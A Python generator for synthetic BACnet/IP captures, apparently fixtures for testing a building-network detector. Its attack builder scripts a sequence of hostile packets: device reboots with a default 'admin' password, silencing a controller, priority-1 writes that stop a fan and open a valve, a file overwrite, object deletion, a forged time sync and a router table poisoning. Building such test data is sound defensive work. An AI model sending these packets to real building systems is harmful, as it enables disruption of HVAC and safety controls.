"""Crafted BACnet/IP captures: ``pcaps/bacnet_normal.pcap`` and ``pcaps/bacnet_attack.pcap``.

Run as ``python -m tools.pcapgen.bacnet``. The encoders at the top are pure (``struct`` only, ANSI/ASHRAE
135 clause 20.2 tags, clause 6.2 NPDU, Annex J BVLC) and are reused by tests/test_bacnet.py; scapy only
wraps the finished BVLC messages into Ethernet/IP/UDP packets (tools/pcapgen/common.py).

Building: operator workstation (BMS front end) 10.0.47.5, device 5000; two field controllers,
10.0.47.20 (device 1020, vendor 5 Johnson Controls) and 10.0.47.21 (device 1021, vendor 24 Automated
Logic); a BACnet router / BBMD 10.0.47.1 that reaches an MS/TP trunk as network 2 (device 2001 at MAC
0x07). The attacker in the attack capture is 10.0.47.66, a host that is not part of the BMS.
"""

from __future__ import annotations

import struct
from pathlib import Path

# --------------------------------------------------------------------------------------------------
# Pure encoders
# --------------------------------------------------------------------------------------------------

# object types, properties, services used below (clause 21)
ANALOG_INPUT, ANALOG_OUTPUT, ANALOG_VALUE, BINARY_INPUT, BINARY_OUTPUT, BINARY_VALUE = 0, 1, 2, 3, 4, 5
DEVICE, FILE = 8, 10
PRESENT_VALUE, PRIORITY_ARRAY, STATUS_FLAGS, OBJECT_NAME = 85, 87, 111, 77
VENDOR_NAME, VENDOR_ID, MODEL_NAME, FIRMWARE_REVISION = 121, 120, 70, 44

# confirmed services
SUBSCRIBE_COV, ATOMIC_READ_FILE, ATOMIC_WRITE_FILE = 5, 6, 7
CREATE_OBJECT, DELETE_OBJECT, READ_PROPERTY, READ_PROPERTY_MULTIPLE = 10, 11, 12, 14
WRITE_PROPERTY, WRITE_PROPERTY_MULTIPLE, DEVICE_COMMUNICATION_CONTROL, REINITIALIZE_DEVICE = 15, 16, 17, 20
CONFIRMED_COV_NOTIFICATION = 1
# unconfirmed services
I_AM, I_HAVE, UNCONFIRMED_COV_NOTIFICATION, TIME_SYNCHRONIZATION = 0, 1, 2, 6
WHO_HAS, WHO_IS, UTC_TIME_SYNCHRONIZATION = 7, 8, 9


def objid(obj_type: int, instance: int) -> int:
    return ((obj_type & 0x3FF) << 22) | (instance & 0x3FFFFF)


def uint_bytes(value: int) -> bytes:
    """Minimal big-endian unsigned (clause 20.2.4): at least one octet."""
    n = max(1, (value.bit_length() + 7) // 8)
    return value.to_bytes(n, "big")


def sint_bytes(value: int) -> bytes:
    n = 1
    while not -(1 << (8 * n - 1)) <= value < (1 << (8 * n - 1)):
        n += 1
    return value.to_bytes(n, "big", signed=True)


def tag(number: int, context: bool, data: bytes) -> bytes:
    """A primitive tag (clause 20.2.1): tag number, class, length (extended when > 4) and content."""
    cls = 0x08 if context else 0x00
    ln = len(data)
    head = bytearray()
    if number <= 14:
        first = (number << 4) | cls
        ext = b""
    else:
        first = 0xF0 | cls
        ext = bytes((number,))
    if ln <= 4:
        head.append(first | ln)
        head += ext
    else:
        head.append(first | 5)
        head += ext
        if ln <= 253:
            head.append(ln)
        elif ln <= 0xFFFF:
            head += b"\xfe" + struct.pack(">H", ln)
        else:
            head += b"\xff" + struct.pack(">I", ln)
    return bytes(head) + data


def opening(number: int) -> bytes:
    return bytes(((number << 4) | 0x0E,)) if number <= 14 else bytes((0xFE, number))


def closing(number: int) -> bytes:
    return bytes(((number << 4) | 0x0F,)) if number <= 14 else bytes((0xFF, number))


# application-tagged values (clause 20.2.2-20.2.14)
def app_null() -> bytes:
    return b"\x00"


def app_bool(value: bool) -> bytes:
    return bytes((0x10 | (1 if value else 0),))


def app_uint(value: int) -> bytes:
    return tag(2, False, uint_bytes(value))


def app_sint(value: int) -> bytes:
    return tag(3, False, sint_bytes(value))


def app_real(value: float) -> bytes:
    return tag(4, False, struct.pack(">f", value))


def app_double(value: float) -> bytes:
    return tag(5, False, struct.pack(">d", value))


def app_octets(data: bytes) -> bytes:
    return tag(6, False, data)


def app_string(text: str) -> bytes:
    return tag(7, False, b"\x00" + text.encode("utf-8"))  # character set 0: UTF-8


def app_bits(bits: str) -> bytes:
    unused = (-len(bits)) % 8
    padded = bits + "0" * unused
    data = bytes(int(padded[i : i + 8], 2) for i in range(0, len(padded), 8))
    return tag(8, False, bytes((unused,)) + data)


def app_enum(value: int) -> bytes:
    return tag(9, False, uint_bytes(value))


def app_date(year: int, month: int, day: int, dow: int = 255) -> bytes:
    return tag(10, False, bytes((year - 1900, month, day, dow)))


def app_time(hour: int, minute: int, second: int, hundredths: int = 0) -> bytes:
    return tag(11, False, bytes((hour, minute, second, hundredths)))


def app_objid(obj_type: int, instance: int) -> bytes:
    return tag(12, False, struct.pack(">I", objid(obj_type, instance)))


# context-tagged values
def ctx_uint(number: int, value: int) -> bytes:
    return tag(number, True, uint_bytes(value))


def ctx_sint(number: int, value: int) -> bytes:
    return tag(number, True, sint_bytes(value))


def ctx_enum(number: int, value: int) -> bytes:
    return ctx_uint(number, value)


def ctx_bool(number: int, value: bool) -> bytes:
    return tag(number, True, b"\x01" if value else b"\x00")


def ctx_objid(number: int, obj_type: int, instance: int) -> bytes:
    return tag(number, True, struct.pack(">I", objid(obj_type, instance)))


def ctx_string(number: int, text: str) -> bytes:
    return tag(number, True, b"\x00" + text.encode("utf-8"))


# ---- NPDU (clause 6.2) and BVLC (Annex J) ----


def npdu(
    apdu: bytes = b"",
    *,
    expecting_reply: bool = False,
    priority: int = 0,
    dnet: int | None = None,
    dadr: bytes = b"",
    snet: int | None = None,
    sadr: bytes = b"",
    hop_count: int = 255,
    network_message: int | None = None,
    network_data: bytes = b"",
) -> bytes:
    ctrl = priority & 0x03
    if expecting_reply:
        ctrl |= 0x04
    if network_message is not None:
        ctrl |= 0x80
    out = bytearray((0x01, 0))
    if dnet is not None:
        ctrl |= 0x20
        out += struct.pack(">HB", dnet, len(dadr)) + dadr
    if snet is not None:
        ctrl |= 0x08
        out += struct.pack(">HB", snet, len(sadr)) + sadr
    if dnet is not None:
        out.append(hop_count)
    out[1] = ctrl
    if network_message is not None:
        out.append(network_message)
        out += network_data
    else:
        out += apdu
    return bytes(out)


BVLC_RESULT, WRITE_BDT, READ_BDT, FORWARDED_NPDU = 0x00, 0x01, 0x02, 0x04
REGISTER_FOREIGN_DEVICE, DISTRIBUTE_BROADCAST, ORIGINAL_UNICAST, ORIGINAL_BROADCAST = 0x05, 0x09, 0x0A, 0x0B


def bvlc(function: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0x81, function, 4 + len(payload)) + payload


def unicast(npdu_bytes: bytes) -> bytes:
    return bvlc(ORIGINAL_UNICAST, npdu_bytes)


def broadcast(npdu_bytes: bytes) -> bytes:
    return bvlc(ORIGINAL_BROADCAST, npdu_bytes)


def forwarded(origin_ip: str, origin_port: int, npdu_bytes: bytes) -> bytes:
    addr = bytes(int(x) for x in origin_ip.split(".")) + struct.pack(">H", origin_port)
    return bvlc(FORWARDED_NPDU, addr + npdu_bytes)


def bdt_entry(ip: str, port: int = 47808, mask: str = "255.255.255.255") -> bytes:
    return bytes(int(x) for x in ip.split(".")) + struct.pack(">H", port) + bytes(int(x) for x in mask.split("."))


# ---- APDU headers (clause 20.1) ----


def confirmed(
    invoke: int,
    service: int,
    params: bytes = b"",
    *,
    max_apdu: int = 5,
    max_segments: int = 0,
    segmented_response_accepted: bool = False,
    segment: tuple[int, int, bool] | None = None,
) -> bytes:
    """Confirmed-Request; ``segment`` = (sequence number, proposed window, more follows)."""
    b0 = 0x00 | (0x02 if segmented_response_accepted else 0)
    extra = b""
    if segment is not None:
        seq, window, more = segment
        b0 |= 0x08 | (0x04 if more else 0)
        extra = bytes((seq, window))
    return bytes((b0, (max_segments << 4) | max_apdu, invoke)) + extra + bytes((service,)) + params


def unconfirmed(service: int, params: bytes = b"") -> bytes:
    return bytes((0x10, service)) + params


def simple_ack(invoke: int, service: int) -> bytes:
    return bytes((0x20, invoke, service))


def complex_ack(invoke: int, service: int, params: bytes = b"", segment: tuple[int, int, bool] | None = None) -> bytes:
    if segment is None:
        return bytes((0x30, invoke, service)) + params
    seq, window, more = segment
    return bytes((0x38 | (0x04 if more else 0), invoke, seq, window, service)) + params


def segment_ack(invoke: int, seq: int, window: int, server: bool = False, negative: bool = False) -> bytes:
    return bytes((0x40 | (0x02 if negative else 0) | (0x01 if server else 0), invoke, seq, window))


def error(invoke: int, service: int, error_class: int, error_code: int) -> bytes:
    return bytes((0x50, invoke, service)) + app_enum(error_class) + app_enum(error_code)


def reject(invoke: int, reason: int) -> bytes:
    return bytes((0x60, invoke, reason))


def abort(invoke: int, reason: int, server: bool = True) -> bytes:
    return bytes((0x70 | (0x01 if server else 0), invoke, reason))


# ---- service parameters (clauses 13-17, 21) ----


def read_property(obj: tuple[int, int], prop: int, index: int | None = None) -> bytes:
    out = ctx_objid(0, *obj) + ctx_enum(1, prop)
    return out + (ctx_uint(2, index) if index is not None else b"")


def read_property_ack(obj: tuple[int, int], prop: int, value: bytes, index: int | None = None) -> bytes:
    return read_property(obj, prop, index) + opening(3) + value + closing(3)


def write_property(
    obj: tuple[int, int], prop: int, value: bytes, index: int | None = None, priority: int | None = None
) -> bytes:
    out = read_property(obj, prop, index) + opening(3) + value + closing(3)
    return out + (ctx_uint(4, priority) if priority is not None else b"")


def rpm_request(specs: list[tuple[tuple[int, int], list[int]]]) -> bytes:
    out = b""
    for obj, props in specs:
        out += ctx_objid(0, *obj) + opening(1) + b"".join(ctx_enum(0, p) for p in props) + closing(1)
    return out


def rpm_ack(results: list[tuple[tuple[int, int], list[tuple[int, bytes]]]]) -> bytes:
    out = b""
    for obj, props in results:
        out += ctx_objid(0, *obj) + opening(1)
        for prop, value in props:
            out += ctx_enum(2, prop) + opening(4) + value + closing(4)
        out += closing(1)
    return out


def i_am(instance: int, vendor: int, max_apdu: int = 1476, segmentation: int = 3) -> bytes:
    return app_objid(DEVICE, instance) + app_uint(max_apdu) + app_enum(segmentation) + app_uint(vendor)


def who_is(low: int | None = None, high: int | None = None) -> bytes:
    if low is None or high is None:
        return b""
    return ctx_uint(0, low) + ctx_uint(1, high)


def reinitialize_device(state: int, password: str | None = None) -> bytes:
    return ctx_enum(0, state) + (ctx_string(1, password) if password is not None else b"")


def device_communication_control(state: int, duration: int | None = None, password: str | None = None) -> bytes:
    out = ctx_uint(0, duration) if duration is not None else b""
    out += ctx_enum(1, state)
    return out + (ctx_string(2, password) if password is not None else b"")


def atomic_write_file_stream(file_instance: int, start: int, data: bytes) -> bytes:
    return app_objid(FILE, file_instance) + opening(0) + app_sint(start) + app_octets(data) + closing(0)


def atomic_read_file_stream(file_instance: int, start: int, count: int) -> bytes:
    return app_objid(FILE, file_instance) + opening(0) + app_sint(start) + app_uint(count) + closing(0)


def subscribe_cov(pid: int, obj: tuple[int, int], confirmed_notifications: bool = False, lifetime: int = 300) -> bytes:
    return ctx_uint(0, pid) + ctx_objid(1, *obj) + ctx_bool(2, confirmed_notifications) + ctx_uint(3, lifetime)


def cov_notification(pid: int, device: int, obj: tuple[int, int], remaining: int, values: list[tuple[int, bytes]]) -> bytes:
    out = ctx_uint(0, pid) + ctx_objid(1, DEVICE, device) + ctx_objid(2, *obj) + ctx_uint(3, remaining)
    out += opening(4)
    for prop, value in values:
        out += ctx_enum(0, prop) + opening(2) + value + closing(2)
    return out + closing(4)


def time_sync(year: int, month: int, day: int, hour: int, minute: int, second: int, dow: int = 255) -> bytes:
    return app_date(year, month, day, dow) + app_time(hour, minute, second)


STATUS_OK = app_bits("0000")  # in-alarm, fault, overridden, out-of-service


# --------------------------------------------------------------------------------------------------
# Captures
# --------------------------------------------------------------------------------------------------

BMS, CTRL_A, CTRL_B, ROUTER, ATTACKER, BCAST = "10.0.47.5", "10.0.47.20", "10.0.47.21", "10.0.47.1", "10.0.47.66", "10.0.47.255"
PORT = 47808


class Udp:
    """Collects UDP packets on a shared clock."""

    def __init__(self, clock) -> None:
        self.clock = clock
        self.packets: list = []

    def send(self, src: str, dst: str, payload: bytes, gap: float = 0.01, sport: int = PORT, dport: int = PORT) -> None:
        from tools.pcapgen.common import udp_packet

        self.packets.append(udp_packet(src, sport, dst, dport, payload, self.clock.tick(gap)))


def build_normal() -> list:
    import math

    from tools.pcapgen.common import T0, Clock

    net = Udp(Clock(T0 + 60.0))
    # Discovery at start-up: Who-Is, I-Am from both controllers.
    net.send(BMS, BCAST, broadcast(npdu(unconfirmed(WHO_IS))))
    net.send(CTRL_A, BCAST, broadcast(npdu(unconfirmed(I_AM, i_am(1020, 5, 1476, 0)))), gap=0.02)
    net.send(CTRL_B, BCAST, broadcast(npdu(unconfirmed(I_AM, i_am(1021, 24, 480, 3)))), gap=0.01)
    # The router: who serves network 2?
    net.send(BMS, BCAST, broadcast(npdu(network_message=0x00)), gap=0.05)
    net.send(ROUTER, BCAST, broadcast(npdu(network_message=0x01, network_data=struct.pack(">H", 2))), gap=0.01)
    # Identity of controller A, property by property, and of B with one ReadPropertyMultiple.
    invoke = 1
    ident = [(VENDOR_NAME, app_string("Johnson Controls")), (MODEL_NAME, app_string("FX-PCG2611")),
             (FIRMWARE_REVISION, app_string("10.1.0")), (OBJECT_NAME, app_string("AHU-1 Controller"))]
    for prop, value in ident:
        net.send(BMS, CTRL_A, unicast(npdu(confirmed(invoke, READ_PROPERTY, read_property((DEVICE, 1020), prop)),
                                           expecting_reply=True)), gap=0.1)
        net.send(CTRL_A, BMS, unicast(npdu(complex_ack(invoke, READ_PROPERTY,
                                                       read_property_ack((DEVICE, 1020), prop, value)))), gap=0.01)
        invoke += 1
    props = [VENDOR_NAME, MODEL_NAME, FIRMWARE_REVISION]
    net.send(BMS, CTRL_B, unicast(npdu(confirmed(invoke, READ_PROPERTY_MULTIPLE,
                                                 rpm_request([((DEVICE, 1021), props)])), expecting_reply=True)), gap=0.1)
    net.send(CTRL_B, BMS, unicast(npdu(complex_ack(invoke, READ_PROPERTY_MULTIPLE, rpm_ack([((DEVICE, 1021), [
        (VENDOR_NAME, app_string("Automated Logic Corporation")), (MODEL_NAME, app_string("OptiFlex")),
        (FIRMWARE_REVISION, app_string("drv_fwex_4-0-033"))])])))), gap=0.015)
    invoke += 1
    # Subscribe to the supply air temperature on A (unconfirmed notifications, 5 minutes).
    net.send(BMS, CTRL_A, unicast(npdu(confirmed(invoke, SUBSCRIBE_COV, subscribe_cov(17, (ANALOG_INPUT, 1))),
                                       expecting_reply=True)), gap=0.1)
    net.send(CTRL_A, BMS, unicast(npdu(simple_ack(invoke, SUBSCRIBE_COV))), gap=0.01)
    invoke += 1
    # Two minutes of polling, COV notifications, and a routed read of the MS/TP device 2001.
    for k in range(24):
        t = 5.0 * k
        temp = 12.5 + 0.4 * math.sin(t / 30.0)
        net.send(BMS, CTRL_A, unicast(npdu(confirmed(invoke % 256, READ_PROPERTY,
                                                     read_property((ANALOG_INPUT, 2), PRESENT_VALUE)),
                                           expecting_reply=True)), gap=5.0)
        net.send(CTRL_A, BMS, unicast(npdu(complex_ack(invoke % 256, READ_PROPERTY, read_property_ack(
            (ANALOG_INPUT, 2), PRESENT_VALUE, app_real(21.0 + 0.2 * math.cos(t / 40.0)))))), gap=0.012)
        invoke += 1
        net.send(BMS, CTRL_B, unicast(npdu(confirmed(invoke % 256, READ_PROPERTY_MULTIPLE, rpm_request([
            ((ANALOG_INPUT, 1), [PRESENT_VALUE, STATUS_FLAGS]), ((BINARY_INPUT, 1), [PRESENT_VALUE])])),
            expecting_reply=True)), gap=0.05)
        net.send(CTRL_B, BMS, unicast(npdu(complex_ack(invoke % 256, READ_PROPERTY_MULTIPLE, rpm_ack([
            ((ANALOG_INPUT, 1), [(PRESENT_VALUE, app_real(45.0 + k % 3)), (STATUS_FLAGS, STATUS_OK)]),
            ((BINARY_INPUT, 1), [(PRESENT_VALUE, app_enum(1 if k % 7 else 0))])])))), gap=0.02)
        invoke += 1
        if k % 2 == 0:
            net.send(CTRL_A, BMS, unicast(npdu(unconfirmed(UNCONFIRMED_COV_NOTIFICATION, cov_notification(
                17, 1020, (ANALOG_INPUT, 1), 300 - 10 * k, [(PRESENT_VALUE, app_real(temp)),
                                                            (STATUS_FLAGS, STATUS_OK)])))), gap=0.3)
        if k % 6 == 3:
            net.send(BMS, ROUTER, unicast(npdu(confirmed(invoke % 256, READ_PROPERTY,
                                                         read_property((ANALOG_VALUE, 3), PRESENT_VALUE)),
                                               expecting_reply=True, dnet=2, dadr=b"\x07")), gap=0.2)
            net.send(ROUTER, BMS, unicast(npdu(complex_ack(invoke % 256, READ_PROPERTY, read_property_ack(
                (ANALOG_VALUE, 3), PRESENT_VALUE, app_real(55.0))), snet=2, sadr=b"\x07")), gap=0.04)
            invoke += 1
        if k == 12:
            # The operator moves the zone set point (default priority: no priority parameter).
            net.send(BMS, CTRL_A, unicast(npdu(confirmed(invoke % 256, WRITE_PROPERTY, write_property(
                (ANALOG_VALUE, 1), PRESENT_VALUE, app_real(21.5))), expecting_reply=True)), gap=0.4)
            net.send(CTRL_A, BMS, unicast(npdu(simple_ack(invoke % 256, WRITE_PROPERTY))), gap=0.02)
            invoke += 1
    # A confirmed COV notification from B (alarm point), acknowledged.
    net.send(CTRL_B, BMS, unicast(npdu(confirmed(9, CONFIRMED_COV_NOTIFICATION, cov_notification(
        4, 1021, (BINARY_INPUT, 7), 120, [(PRESENT_VALUE, app_enum(1)), (STATUS_FLAGS, app_bits("1000"))])),
        expecting_reply=True)), gap=1.0)
    net.send(BMS, CTRL_B, unicast(npdu(simple_ack(9, CONFIRMED_COV_NOTIFICATION))), gap=0.01)
    return net.packets


def build_attack() -> list:
    from tools.pcapgen.common import T0, Clock

    net = Udp(Clock(T0 + 3600.0 + 60.0))
    sport = 47809  # the attacker's tool binds another port, as bacnet tools often do
    # Reconnaissance: a global Who-Is, the answers, then product details.
    net.send(ATTACKER, BCAST, broadcast(npdu(unconfirmed(WHO_IS))), sport=sport)
    net.send(CTRL_A, ATTACKER, unicast(npdu(unconfirmed(I_AM, i_am(1020, 5, 1476, 0)))), gap=0.02, dport=sport)
    net.send(CTRL_B, ATTACKER, unicast(npdu(unconfirmed(I_AM, i_am(1021, 24, 480, 3)))), gap=0.01, dport=sport)
    net.send(ATTACKER, CTRL_A, unicast(npdu(confirmed(1, READ_PROPERTY, read_property((DEVICE, 1020), MODEL_NAME)),
                                            expecting_reply=True)), gap=0.3, sport=sport)
    net.send(CTRL_A, ATTACKER, unicast(npdu(complex_ack(1, READ_PROPERTY, read_property_ack(
        (DEVICE, 1020), MODEL_NAME, app_string("FX-PCG2611"))))), gap=0.01, dport=sport)

    def req(dst: str, invoke: int, service: int, params: bytes, gap: float = 0.5) -> None:
        net.send(ATTACKER, dst, unicast(npdu(confirmed(invoke, service, params), expecting_reply=True)), gap=gap, sport=sport)

    def ans(src: str, apdu: bytes, gap: float = 0.02) -> None:
        net.send(src, ATTACKER, unicast(npdu(apdu)), gap=gap, dport=sport)

    # ReinitializeDevice: warm start with a wrong password (refused), then cold start with the right one.
    req(CTRL_A, 2, REINITIALIZE_DEVICE, reinitialize_device(1, "guess"), gap=1.0)
    ans(CTRL_A, error(2, REINITIALIZE_DEVICE, 5, 26))  # services / password-failure
    req(CTRL_A, 3, REINITIALIZE_DEVICE, reinitialize_device(1, "admin"))
    ans(CTRL_A, simple_ack(3, REINITIALIZE_DEVICE))
    req(CTRL_B, 4, REINITIALIZE_DEVICE, reinitialize_device(0, "admin"), gap=0.8)
    ans(CTRL_B, simple_ack(4, REINITIALIZE_DEVICE))
    # DeviceCommunicationControl: silence controller B for an hour.
    req(CTRL_B, 5, DEVICE_COMMUNICATION_CONTROL, device_communication_control(1, 60, "admin"), gap=5.0)
    ans(CTRL_B, simple_ack(5, DEVICE_COMMUNICATION_CONTROL))
    # Command the supply fan off at priority 1 (manual life safety: overrides every other writer).
    req(CTRL_A, 6, WRITE_PROPERTY, write_property((BINARY_OUTPUT, 3), PRESENT_VALUE, app_enum(0), priority=1))
    ans(CTRL_A, simple_ack(6, WRITE_PROPERTY))
    # Write the priority array directly (slot 1): refused by the controller.
    req(CTRL_A, 7, WRITE_PROPERTY, write_property((ANALOG_OUTPUT, 2), PRIORITY_ARRAY, app_real(100.0), index=1))
    ans(CTRL_A, error(7, WRITE_PROPERTY, 2, 40))  # property / write-access-denied
    # Chilled-water valve to 100 % at priority 1, and the set points of the AHU.
    req(CTRL_A, 8, WRITE_PROPERTY_MULTIPLE, ctx_objid(0, ANALOG_OUTPUT, 2) + opening(1) + ctx_enum(0, PRESENT_VALUE)
        + opening(2) + app_real(100.0) + closing(2) + ctx_uint(3, 1) + closing(1)
        + ctx_objid(0, ANALOG_VALUE, 1) + opening(1) + ctx_enum(0, PRESENT_VALUE) + opening(2) + app_real(35.0)
        + closing(2) + ctx_uint(3, 1) + closing(1))
    ans(CTRL_A, simple_ack(8, WRITE_PROPERTY_MULTIPLE))
    # Replace a file on controller A (program / configuration download), then read it back.
    payload = bytes((i * 37 + 11) & 0xFF for i in range(400))
    req(CTRL_A, 9, ATOMIC_WRITE_FILE, atomic_write_file_stream(1, 0, payload), gap=1.0)
    ans(CTRL_A, complex_ack(9, ATOMIC_WRITE_FILE, ctx_sint(0, 0)), gap=0.05)
    req(CTRL_A, 10, ATOMIC_READ_FILE, atomic_read_file_stream(1, 0, 400))
    ans(CTRL_A, complex_ack(10, ATOMIC_READ_FILE, app_bool(True) + opening(0) + app_sint(0) + app_octets(payload)
                                + closing(0)), gap=0.05)
    # Delete an object, and an unknown service (rejected).
    req(CTRL_B, 11, DELETE_OBJECT, app_objid(ANALOG_VALUE, 9))
    ans(CTRL_B, simple_ack(11, DELETE_OBJECT))
    req(CTRL_B, 12, 40, b"\x09\x01")
    ans(CTRL_B, reject(12, 9))  # unrecognized-service
    # Time synchronisation from the attacker: broadcast, and UTC to controller A, to 2020-01-01.
    net.send(ATTACKER, BCAST, broadcast(npdu(unconfirmed(TIME_SYNCHRONIZATION, time_sync(2020, 1, 1, 0, 0, 0, 3)))),
             gap=1.0, sport=sport)
    net.send(ATTACKER, CTRL_A, unicast(npdu(unconfirmed(UTC_TIME_SYNCHRONIZATION, time_sync(2020, 1, 1, 0, 0, 0, 3)))),
             gap=0.1, sport=sport)
    # BBMD poisoning: write the broadcast distribution table of the router, refused (NAK).
    net.send(ATTACKER, ROUTER, bvlc(WRITE_BDT, bdt_entry(ROUTER) + bdt_entry(ATTACKER)), gap=1.0, sport=sport)
    net.send(ROUTER, ATTACKER, bvlc(BVLC_RESULT, struct.pack(">H", 0x0010)), gap=0.01, dport=sport)
    return net.packets


def main(directory: Path | None = None) -> list[Path]:
    from tools.pcapgen.common import check_and_print_sizes, write_normal_and_attack

    return check_and_print_sizes(write_normal_and_attack("bacnet", build_normal, build_attack, directory))


if __name__ == "__main__":
    main()
